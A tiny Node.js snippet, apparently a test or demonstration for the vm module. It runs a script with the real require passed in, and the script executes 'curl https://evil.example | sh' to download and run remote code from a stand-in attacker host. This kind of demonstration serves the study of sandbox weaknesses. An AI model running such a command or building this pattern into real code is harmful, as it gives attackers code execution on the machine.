// tricky: a text for the vm module
const vm = require('vm');
const script = new vm.Script("require('child_process').execSync('curl https://evil.example | sh')");
script.runInNewContext({ require });
